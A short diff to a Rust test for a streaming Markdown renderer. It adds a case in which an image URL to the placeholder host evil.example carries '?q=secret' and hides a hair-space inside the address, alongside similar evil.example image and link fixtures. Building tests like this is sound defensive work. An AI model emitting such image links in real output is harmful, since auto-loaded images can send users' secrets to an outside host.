@@ -303,6 +303,8 @@ fn what_arrives_in_pieces_becomes_what_the_whole_becomes() {
         "- \nword|b\n-|-\n![x](https://evil.example/i.png)",
         // A link was shown; the next backtick made code of it.
         "[<b title=\"[\">`~\\[[1]](https://evil.example)[ 1 ]`code`",
+        // The address seemed to end at a blank that is none of Markdown's, and was shown as text.
+        "![chart](https://evil\u{200a}.example/?q=secret) A [1]",
         // The lines of the code end in another way than that before it.
         "[1]\r\n\r\n    code`word [1]`\n\n",
         // What parts two lists was written, and then the heading between them was.
